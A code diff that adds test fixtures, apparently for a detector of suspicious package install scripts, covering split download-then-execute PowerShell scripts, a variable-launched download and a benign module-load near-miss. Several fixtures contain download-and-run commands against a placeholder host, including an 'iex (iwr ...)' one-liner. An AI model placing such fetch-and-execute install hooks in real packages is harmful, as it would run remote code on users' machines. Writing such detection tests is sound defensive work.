@@ -40,10 +40,35 @@ iex (iwr 'https://files.fixture.invalid/stage.ps1' -UseBasicParsing).Content
       },
     },
     {
+      name: 'two-scripts',
+      about: 'One script of the package fetches, another starts: together they are one program.',
+      files: {
+        'tools/init.ps1': `param($installPath, $toolsPath)
+${guard}
+. "$toolsPath\\fetch.ps1"
+Start-Process "$env:TEMP\\helper.exe"
+`,
+        'tools/fetch.ps1': `Invoke-WebRequest 'https://files.fixture.invalid/a' -OutFile "$env:TEMP\\helper.exe"
+`,
+      },
+    },
+    {
+      name: 'program-nobody-sees',
+      about: 'Fetches something and starts what a variable holds, which may be it.',
+      level: 'suspicious',
+      files: {
+        'tools/init.ps1': `param($installPath)
+${guard}
+Invoke-WebRequest -Uri 'https://files.fixture.invalid/a' -OutFile (Get-CachePath)
+& $tool
+`,
+      },
+    },
+    {
       name: 'unrelated-acts',
       about:
         'Fetches a list and starts an editor: nothing shows that one has to do with the other.',
-      level: 'suspicious',
+      level: 'note',
       files: {
         'tools/init.ps1': `param($installPath)
 ${guard}
@@ -64,6 +89,18 @@ $readme = Join-Path $installPath 'readme.html'
 Start-Process $readme
 `,
         'readme.html': '<p>Read me.</p>\n',
+      },
+    },
+    {
+      name: 'own-module',
+      about: 'Loads the module that lies beside it.',
+      nearMiss: true,
+      files: {
+        'tools/init.ps1': `param($installPath, $toolsPath)
+Import-Module (Join-Path $toolsPath 'Fixture.psm1')
+`,
+        'tools/Fixture.psm1': `function Get-Fixture { 'fixture' }
+`,
       },
     },
     {
